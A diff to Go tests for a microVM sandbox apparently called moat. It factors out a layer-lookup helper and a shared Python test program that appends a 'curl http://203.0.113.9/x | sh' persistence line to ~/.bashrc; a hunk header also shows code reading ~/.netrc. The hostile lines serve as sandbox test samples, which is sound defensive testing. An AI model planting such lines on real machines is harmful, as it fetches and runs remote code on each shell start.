@@ -95,12 +95,7 @@ func TestGuestKernel(t *testing.T) {
 	if got := strings.TrimSpace(res.Stdout); got == "" || got == strings.TrimSpace(string(host)) {
 		t.Errorf("boot id %q: the program saw the host's kernel (host %q)", got, strings.TrimSpace(string(host)))
 	}
-	var vm string
-	for _, l := range res.Layers {
-		if l.Name == "microvm" {
-			vm = l.Detail
-		}
-	}
+	vm := layerDetail(res, "microvm")
 	if !strings.Contains(vm, "accelerator kvm") && !strings.Contains(vm, "accelerator tcg") {
 		t.Errorf("the microvm layer does not name the accelerator: %q", vm)
 	}
@@ -375,19 +370,22 @@ open(os.path.expanduser('~/.netrc')).read()
 	}
 }
 
-// TestReportTimeout: a program stopped by the timeout still gets its
-// report: moat asks the agent to end it, and the agent sends its exit and
-// report before the VM goes (without that, the report is cut).
-func TestReportTimeout(t *testing.T) {
-	b := moattest.RequireBackend(t, "microvm")
-	code := `
+// persistThenSleep writes a persistence line to ~/.bashrc, says so and
+// sleeps: its report must survive the run's being stopped.
+const persistThenSleep = `
 import os, time
 with open(os.path.expanduser('~/.bashrc'), 'a') as f:
     f.write('curl http://203.0.113.9/x | sh\n')
 print('written', flush=True)
 time.sleep(100000)
 `
-	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}, Limits: moat.Limits{Timeout: 30 * time.Second}})
+
+// TestReportTimeout: a program stopped by the timeout still gets its
+// report: moat asks the agent to end it, and the agent sends its exit and
+// report before the VM goes (without that, the report is cut).
+func TestReportTimeout(t *testing.T) {
+	b := moattest.RequireBackend(t, "microvm")
+	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", persistThenSleep}, Limits: moat.Limits{Timeout: 30 * time.Second}})
 	if err != nil {
 		t.Fatalf("Run: %v", err)
 	}
@@ -405,17 +403,10 @@ time.sleep(100000)
 // guest's report and the run had only a report-cut event.
 func TestReportCancel(t *testing.T) {
 	b := moattest.RequireBackend(t, "microvm")
-	code := `
-import os, time
-with open(os.path.expanduser('~/.bashrc'), 'a') as f:
-    f.write('curl http://203.0.113.9/x | sh\n')
-print('written', flush=True)
-time.sleep(100000)
-`
 	ctx, cancel := context.WithCancel(context.Background())
 	defer cancel()
 	out := &onMark{mark: "written", fn: cancel}
-	res, err := b.Run(ctx, &moat.Spec{Args: []string{"-c", code}, Stdout: out, Limits: moat.Limits{Timeout: 10 * time.Minute}})
+	res, err := b.Run(ctx, &moat.Spec{Args: []string{"-c", persistThenSleep}, Stdout: out, Limits: moat.Limits{Timeout: 10 * time.Minute}})
 	if err != nil {
 		t.Fatalf("Run: %v", err)
 	}
@@ -493,13 +484,7 @@ func TestVMMConfined(t *testing.T) {
 	if ents, err := os.ReadDir(cwd); cwd == "" || cwd == "/" || err != nil || len(ents) > 0 {
 		t.Errorf("QEMU's working directory %q (%v), want an empty one", cwd, err)
 	}
-	var layer string
-	for _, l := range res.Layers {
-		if l.Name == "vmm" {
-			layer = l.Detail
-		}
-	}
-	if !strings.Contains(layer, "-sandbox on,obsolete=deny,elevateprivileges=deny,spawn=deny,resourcecontrol=deny") {
+	if layer := layerDetail(res, "vmm"); !strings.Contains(layer, "-sandbox on,obsolete=deny,elevateprivileges=deny,spawn=deny,resourcecontrol=deny") {
 		t.Errorf("vmm layer %q", layer)
 	}
 }
@@ -519,4 +504,14 @@ func (o *onMark) Write(p []byte) (int, error) {
 		o.fn()
 	}
 	return len(p), nil
+}
+
+// layerDetail is the detail of the Result's layer name, or "".
+func layerDetail(res *moat.Result, name string) string {
+	for _, l := range res.Layers {
+		if l.Name == name {
+			return l.Detail
+		}
+	}
+	return ""
 }
